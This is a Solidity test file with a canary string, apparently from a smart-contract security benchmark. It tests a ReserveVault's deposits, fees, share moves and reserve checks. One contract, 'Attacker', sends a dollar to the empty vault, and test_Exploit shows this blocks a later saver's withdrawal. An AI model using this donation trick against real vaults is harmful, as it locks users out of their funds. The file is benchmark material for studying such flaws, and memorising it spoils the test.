// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./ReserveVault.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-c27e3052-5878-465f-96a8-7c11d64b2653

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Usd private usd;
    ReserveVault private vault;
    Attacker private mallory;

    function setUp() public {
        usd = new Usd();
        vault = new ReserveVault(usd, address(this));
        vault.grantRole(vault.FEE_ROLE(), BEN);
        usd.transfer(ANA, 100_000e6);
        usd.transfer(BEN, 50_000e6);
        vm.prank(ANA);
        usd.approve(address(vault), type(uint256).max);
        vm.prank(BEN);
        usd.approve(address(vault), type(uint256).max);
        mallory = new Attacker(vault, usd);
        usd.transfer(address(mallory), 1e6);
    }

    function test_Regular() public {
        vm.prank(ANA);
        require(vault.deposit(40_000e6, 40_000e12) == 40_000e12, "first shares");
        vm.startPrank(BEN);
        require(vault.deposit(10_000e6, 0) == 10_000e12 && vault.totalShares() == 50_000e12, "second shares");
        vault.setFee(100);
        require(vault.withdraw(5_000e12) == 4_950e6 && usd.balanceOf(BEN) == 44_950e6, "with a fee");
        vault.setFee(0);
        vault.moveShares(ANA, 5_000e12);
        vm.stopPrank();
        require(vault.sharesOf(ANA) == 45_000e12 && vault.sharesOf(BEN) == 0, "moved");

        // everything but a small reserve, then the rest
        usd.transfer(address(vault), 44_950e6);
        require(vault.reserve() == 90_000e6 && vault.worthOf(45_000e12) <= 90_000e6, "grown");
        vm.startPrank(ANA);
        vault.withdraw(44_989e12);
        require(vault.withdraw(11e12) <= 22e6 && vault.totalShares() == 0, "the rest");
        require(usd.balanceOf(ANA) + 1e6 >= 150_000e6 && usd.balanceOf(ANA) <= 150_000e6, "almost all of it");
        vm.stopPrank();
        vault.grantRole(vault.FEE_ROLE(), ANA);
        vault.revokeRole(vault.FEE_ROLE(), ANA);
        vault.renounceRole(vault.DEFAULT_ADMIN_ROLE(), address(this));
        require(!vault.hasRole(vault.DEFAULT_ADMIN_ROLE(), address(this)), "no administrator");
    }

    function test_RefusesSmallReserves() public {
        vm.startPrank(ANA);
        vault.deposit(100e6, 0);
        vm.expectRevert("ReserveVault: too little left");
        vault.withdraw(91e12);
        vault.withdraw(89e12);
        vm.stopPrank();
    }

    function test_RefusesFees() public {
        vm.prank(ANA);
        vm.expectRevert(
            abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, ANA, keccak256("FEE_ROLE"))
        );
        vault.setFee(1);
        vm.prank(BEN);
        vm.expectRevert("ReserveVault: fee");
        vault.setFee(101);
    }

    function test_RefusesTooFewShares() public {
        vm.startPrank(ANA);
        vm.expectRevert("ReserveVault: too few shares");
        vault.deposit(0, 0);
        vm.expectRevert("ReserveVault: too few shares");
        vault.deposit(1e6, 1e12 + 1);
        vault.deposit(1e6, 1e12);
        vm.expectRevert("ReserveVault: to nobody");
        vault.moveShares(address(0), 1);
        vm.stopPrank();
    }

    /// A saver comes and takes half of the savings back.
    function visit() public {
        vm.startPrank(ANA);
        uint256 shares = vault.deposit(100_000e6, 0);
        vault.withdraw(shares / 2);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        vm.startPrank(ANA);
        uint256 shares = vault.deposit(100_000e6, 0);
        vm.expectRevert("ReserveVault: too little left");
        vault.withdraw(shares / 2);
        vm.stopPrank();
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Sends a dollar to the empty reserve.
contract Attacker {
    ReserveVault private vault;
    IERC20 private dollar;

    constructor(ReserveVault vault_, IERC20 dollar_) {
        (vault, dollar) = (vault_, dollar_);
    }

    function run() external {
        dollar.transfer(address(vault), 1e6);
    }
}
